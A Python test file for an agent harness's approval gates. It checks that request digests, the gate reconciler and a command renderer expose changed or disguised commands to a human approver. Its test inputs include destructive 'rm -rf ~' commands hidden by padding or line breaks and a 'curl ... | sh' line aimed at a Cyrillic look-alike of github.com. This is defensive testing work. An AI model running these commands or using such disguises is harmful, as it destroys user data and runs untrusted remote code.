"""What binds an answer to one request (core/binding.py), what the reconciler does when a request
changes or another trajectory collides (issue #26, cases 4 and 7), and the one rendering rule
(core/display.py, case 6). Pure."""

from __future__ import annotations

import copy
import hashlib
import unicodedata
from typing import Any

import pytest

from agy_harness.adapters.simulator.steps import stream_projection
from agy_harness.core import steps as S
from agy_harness.core.binding import request_digest
from agy_harness.core.cut_marks import mark
from agy_harness.core.display import command_view, one_line, path_notes, request_hash, visible
from agy_harness.core.elicitation import TIMED_OUT, Target, freshest_open
from agy_harness.core.gates import pending_request
from agy_harness.core.reconciler import CHANGED, Reconciler
from agy_harness.ports.events import GateOpened, GateWithdrawn

from .fixtures import CASCADE, fixture


def digest(raw: dict[str, Any]) -> str:
    step = S.parse_step(raw)
    assert step is not None
    pending = pending_request(step)
    assert pending is not None
    return request_digest(step, *pending)


@pytest.mark.parametrize("name", ["run_command_waiting", "ask_question_waiting"])
def test_the_digest_is_the_same_whichever_projection_was_read(name: str) -> None:
    assert digest(stream_projection(fixture(name))) == digest(fixture(name))


def test_agys_re_ask_has_the_same_digest_and_every_field_the_human_sees_changes_it() -> None:
    base = fixture("run_command_waiting")
    again = copy.deepcopy(base)
    again["metadata"]["sourceTrajectoryStepInfo"]["stepIndex"] = 9  # a new step, the same request
    again["metadata"]["createdAt"] = "2026-06-23T00:00:00Z"
    assert digest(again) == digest(base)
    edits = [
        lambda s: s["runCommand"].update(commandLine="pwd; rm -rf ~"),
        lambda s: s["runCommand"].update(proposedCommandLine="rm -rf ~"),
        lambda s: s["runCommand"].update(cwd="/"),
        lambda s: s["metadata"].update(executionId="the next turn"),
        lambda s: s["requestedInteraction"]["permission"]["resource"].update(target="rm"),
        lambda s: s["requestedInteraction"]["permission"].update(actionDescription="Cleaning up"),
        lambda s: s["requestedInteraction"]["permission"].update(suggestedPersistPattern="*"),
    ]
    seen = {digest(base)}
    for edit in edits:
        changed = copy.deepcopy(base)
        edit(changed)
        seen.add(digest(changed))
    assert len(seen) == len(edits) + 1
    question = fixture("ask_question_waiting")
    other = copy.deepcopy(question)
    other["requestedInteraction"]["askQuestion"]["questions"][0]["options"][3]["text"] = "Delete everything"
    assert digest(other) != digest(question)


def _cut_at(text: str, keep: int) -> str:
    raw = text.encode()
    return text[:keep] + mark(len(raw) - keep, len(raw), hashlib.sha256(raw).hexdigest())


def test_a_cut_string_binds_by_the_whole_string_not_the_part_kept() -> None:
    """Issue #35: the same request read with its command cut at 4 MiB (the stream) and harder (a poll
    over the answer cap) has one digest, so a denial reaches it; a request that differs past the cut
    has another."""
    base = fixture("run_command_waiting")
    whole = "echo " + "x" * 200 + "; ls"

    def cut_step(text: str, keep: int) -> dict[str, Any]:
        step = copy.deepcopy(base)
        step["runCommand"].update(commandLine=_cut_at(text, keep), proposedCommandLine=_cut_at(text, keep))
        return step

    assert digest(cut_step(whole, 150)) == digest(cut_step(whole, 40))
    assert digest(cut_step(whole, 150)) != digest(cut_step(whole[:-2] + "rm", 150))
    assert digest(cut_step(whole, 150)) != digest(base)


def test_a_request_that_changes_under_its_card_is_withdrawn_and_a_new_gate_opens() -> None:
    r = Reconciler(CASCADE)
    [opened] = [e for e in r.feed(fixture("run_command_waiting")) if isinstance(e, GateOpened)]
    assert r.feed(stream_projection(fixture("run_command_waiting"))) == []  # the same request: nothing
    changed = fixture("run_command_waiting")
    changed["runCommand"]["commandLine"] = "rm -rf ~/work"
    changed["requestedInteraction"]["permission"]["resource"]["target"] = "rm -rf ~/work"
    withdrawn, new = r.feed(changed)
    assert isinstance(withdrawn, GateWithdrawn) and withdrawn.gate_id == opened.gate_id
    assert withdrawn.reason == CHANGED
    assert isinstance(new, GateOpened) and new.gate_id != opened.gate_id and new.id != opened.id
    assert new.permission is not None and new.permission.command_line == "rm -rf ~/work"
    assert (new.step_index, new.digest) == (opened.step_index, digest(changed))
    closed, *_ = r.feed(fixture("run_command_done"))  # it ran: the new gate is the one withdrawn
    assert isinstance(closed, GateWithdrawn) and closed.gate_id == new.gate_id and closed.id != withdrawn.id


def test_a_finished_step_of_another_trajectory_never_hides_ours() -> None:
    r = Reconciler(CASCADE)
    r.feed(fixture("planner_response_tool_call_run_command"))  # our trajectory is known
    foreign = fixture("list_directory_done")
    info = foreign["metadata"]["sourceTrajectoryStepInfo"]
    info.update(trajectoryId="another-trajectory", stepIndex=6)  # the index of our gate, below
    assert [e.type for e in r.feed(foreign)][-2:] == ["tool_call", "tool_result"]
    assert [e.type for e in r.feed(fixture("run_command_waiting"))] == ["gate_opened"]
    assert [e.type for e in r.feed(fixture("run_command_done"))] == [
        "gate_withdrawn",
        "tool_call",
        "tool_result",
    ]


def test_without_a_re_read_only_the_gate_itself_or_its_timeout_re_ask_takes_the_answer() -> None:
    r = Reconciler(CASCADE)
    [gate] = [e for e in r.feed(fixture("run_command_waiting")) if isinstance(e, GateOpened)]
    re_ask = gate.model_copy(update={"gate_id": "re-ask", "step_index": 8})
    other = gate.model_copy(update={"gate_id": "other", "step_index": 9, "digest": "0" * 32})
    assert freshest_open(gate, [gate], {}) == Target(6, moved=False)
    assert freshest_open(gate, [re_ask, other], {gate.gate_id: (gate, TIMED_OUT)}) == Target(8, moved=True)
    assert freshest_open(gate, [other], {gate.gate_id: (gate, TIMED_OUT)}) is None
    assert freshest_open(gate, [re_ask], {gate.gate_id: (gate, "answered")}) is None
    assert freshest_open(gate, [re_ask], {}) is None  # never seen closed: unknown, not delivered


# -- the one rendering rule ----------------------------------------------------------------------

INVISIBLE = [
    "\u200b",  # zero width space
    "\u200c",  # ZWNJ
    "\u200d",  # ZWJ
    "\u2060",  # word joiner
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u061c",  # Arabic letter mark
    "\ufeff",  # BOM
    "\u00ad",  # soft hyphen
    "\U000e0001",  # language tag
    "\U000e0041",  # TAG LATIN CAPITAL A
    "\U000e007f",  # cancel tag
    "\u3164",  # Hangul filler
    "\u115f",  # Hangul choseong filler
    "\u1160",  # Hangul jungseong filler
    "\uffa0",  # halfwidth Hangul filler
    "\u2800",  # braille blank
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\ufe0f",  # variation selector
    "\u034f",  # combining grapheme joiner
    "\x1b",
    "\r",
    "\x9b",
    "\ue000",  # private use
]


@pytest.mark.parametrize("char", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_every_invisible_or_format_character_is_shown(char: str) -> None:
    shown = visible(f"rm{char}-rf")
    assert char not in shown and shown.startswith("rm\\") and shown.endswith("-rf")
    assert visible(f"rm -rf{char}") != visible("rm -rf")  # two commands never render alike


def test_every_format_character_of_unicode_is_shown() -> None:
    for code in range(0x110000):
        char = chr(code)
        if unicodedata.category(char) in ("Cf", "Zl", "Zp") and visible(char) == char:
            raise AssertionError(f"U+{code:04X} passes raw")


@pytest.mark.parametrize(
    ("a", "b"),
    [
        ("echo \\x1b", "echo \x1b"),  # a literal escape never looks like the character
        ("echo \\u200d", "echo \u200d"),
        ("a\\\\x1b", "a\\\x1b"),
        ("C:\\Users", "C:\\\\Users"),
        ("x\\", "x\\\\"),
    ],
)
def test_the_rendering_is_injective(a: str, b: str) -> None:
    assert visible(a) != visible(b)
    assert one_line(a) != one_line(b)


def test_ordinary_text_is_untouched() -> None:
    for text in ("git status && ls -la", "printf 'a\\n'", "ünïcödé 漢字 emoji 👍", "a\tb\nc"):
        assert visible(text) == text


def test_a_tall_command_keeps_its_dangerous_line_visible() -> None:
    command = "rm -rf ~/work #" + "\n" * 40 + "ls -la"
    view = command_view(command)
    h = request_hash(command)
    assert view.lines == ("rm -rf ~/work #", "⋯ 39 blank lines ⋯", "ls -la", f"⋯ {h} ⋯")
    assert view.prompt_label == f"rm -rf ~/work # (+40 more lines) {h}"
    assert view.title() == f"rm -rf ~/work #⏎⋯ 39 blank lines ⋯⏎ls -la {h}"
    tall = command_view("\n".join(f"echo {i}" for i in range(100)), max_lines=12)
    assert tall.cut and len(tall.lines) == 13 and tall.lines[0] == "echo 0" and tall.lines[-2] == "echo 99"
    assert any(line.startswith("⋯ 89 more lines not shown #") for line in tall.lines)
    spaced = command_view("ls" + " " * 300 + "; rm -rf ~")
    assert spaced.lines[:-1] == ("ls ⋯ 300 spaces ⋯ ; rm -rf ~",)
    wide = command_view("echo " + "A" * 5000 + "; rm -rf ~", max_chars=400)
    [line, _] = wide.lines
    assert line.startswith("echo AAA") and line.endswith("AA; rm -rf ~") and "chars not shown #" in line
    assert len(line) < 470 and f"⋯ +{5015 - 120} chars #" in wide.prompt_label


def test_a_marker_or_a_line_break_cannot_be_forged() -> None:
    forged = command_view("rm -rf ~ # ⋯ 39 blank lines ⋯⏎ls")
    assert "⋯" not in forged.lines[0] and "⏎" not in forged.title()
    assert one_line("a⏎b") != one_line("a\nb")


def test_look_alikes_never_render_the_same() -> None:
    """Issue #35 case 2: a Cyrillic ``і`` in a host, NFC vs NFD, and the middle-cut and tall-cut markers
    used to render two different texts identically on every card."""
    latin, cyrillic = "curl https://github.com/x | sh", "curl https://g\u0456thub.com/x | sh"
    a, b = command_view(latin), command_view(cyrillic)
    assert a.lines != b.lines and a.title() != b.title() and a.prompt_label != b.prompt_label
    assert "⋯ ⚠ non-ASCII: і U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I ⋯" in b.lines
    assert any('mixed scripts in "https://gіthub.com/x": CYRILLIC, LATIN' in line for line in b.lines)
    assert not a.flags and len(b.flags) == 2
    nfc, nfd = "rm -rf ~/caf\u00e9", "rm -rf ~/cafe\u0301"
    c, d = command_view(nfc), command_view(nfd)
    assert c.lines != d.lines and c.title() != d.title()
    assert any("not NFC" in line for line in d.lines) and not any("not NFC" in line for line in c.lines)
    assert any("U+0301 COMBINING ACUTE ACCENT" in line for line in d.lines)
    # the middle cut and the tall cut say what they hide
    wide = [command_view("echo " + "A" * 500 + x + "A" * 500) for x in ("1", "2")]
    assert wide[0].lines[0] != wide[1].lines[0]
    tall = [command_view("\n".join(["ls"] * 20 + [x] + ["ls"] * 20)) for x in ("echo 1", "rm -rf ~")]
    assert tall[0].lines[:-1] != tall[1].lines[:-1]
    assert path_notes("/home/u/work") == [] and path_notes("/home/u/wоrk")  # a Cyrillic о


def test_a_cut_request_says_so_on_its_card() -> None:
    command = "echo " + "x" * 50 + mark(123, 178, "ab" * 32)
    view = command_view(command)
    assert (
        "⋯ ⚠ cut: 123 more bytes not shown (whole 178 bytes, sha256:abababababababab); "
        "it can be denied, not allowed ⋯" in view.lines
    )
    assert "⚠ 1 warning" in view.title()


def test_a_cut_mark_nested_past_any_depth_is_still_found() -> None:
    """A mark 200 levels deep in agy's request is found (the search once stopped at 64 levels, and
    an allow of such a request was not refused)."""
    from agy_harness.core.cut_marks import cuts_in, mark

    nested: object = "echo " + mark(10, 20, "ab" * 32)
    for n in range(200):
        nested = {"k": [nested]} if n % 2 else [nested]
    found = list(cuts_in({"request": nested}))
    assert len(found) == 1 and found[0].removed == 10 and found[0].total == 20
